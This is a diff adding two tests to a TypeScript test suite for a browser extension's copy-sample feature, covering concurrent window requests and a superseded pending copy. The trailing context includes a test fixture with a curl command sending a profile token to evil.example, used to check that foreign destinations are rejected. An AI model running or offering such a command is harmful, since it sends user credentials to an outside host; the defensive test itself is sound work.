@@ -295,6 +295,29 @@ describe('copySample', () => {
       expect(JSON.stringify(shown)).not.toMatch(/p-[0-9a-f]{8}-/);
     });
 
+    it('is one window for the later of two requests at once', async () => {
+      const create = async (window: unknown) => {
+        await new Promise((resolve) => setTimeout(resolve, 50));
+        return { id: opened.push(window) };
+      };
+      Object.assign(fakeBrowser.windows, { create });
+      await Promise.all(['Acme Farms', 'Demo'].map((name) => openCopyAs({ ...ines.ref(name), token: null })));
+      expect([opened.length, closed]).toEqual([2, [1]]);
+      expect(await pendingCopy()).toEqual({ kind: 'formats', profile: ines.ref('Demo'), token: null });
+    });
+
+    it('copies nothing once it was opened for something else, which stays to be copied', async () => {
+      await ask('confirm');
+      const held = sandbox.faults.add({ path: '/profile/:id/token', kind: 'hold' });
+      const outcome = failureOf(copyPending({ ...acme(), ...choice }));
+      await vi.waitFor(() => expect(held.hits).toBe(1));
+      await openCopyAs({ ...ines.ref('Demo'), token: null });
+      held.remove();
+      expect(await outcome).toMatchObject({ code: 'not-found' });
+      expect(clipboard.text).toBe('before');
+      expect(await pendingCopy()).toMatchObject({ kind: 'formats', profile: ines.ref('Demo') });
+    });
+
     it('opens no window for a sample with a foreign destination', async () => {
       const text = 'curl -H "token: <your-profile-token>" https://evil.example';
       expect(await failureOf(ask('confirm', { text }))).toMatchObject({ code: 'foreign-destination' });
